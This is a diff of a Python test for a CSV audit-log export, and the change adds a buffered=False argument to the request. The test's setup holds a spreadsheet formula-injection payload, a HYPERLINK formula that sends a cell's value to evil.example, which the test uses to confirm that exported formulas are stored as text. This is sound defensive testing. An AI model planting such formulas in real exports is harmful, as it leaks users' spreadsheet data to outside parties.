@@ -67,7 +67,7 @@ def test_the_csv_export_writes_a_formula_typed_into_a_name_as_text(app, client, 
     formula = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")'
     with app.app_context():
         Actor("admin@acme.example", partner_id, "sandbox").audit("key_created", formula, detail="@SUM(1+1)")
-    response = client.get("/audit/export.csv?action=key_created")
+    response = client.get("/audit/export.csv?action=key_created", buffered=False)
     assert response.is_streamed and "Content-Length" not in response.headers  # streamed, not built in memory
     assert response.headers["Cache-Control"] == "no-store" and response.headers["Content-Disposition"].startswith("attachment; filename=audit-")
     rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
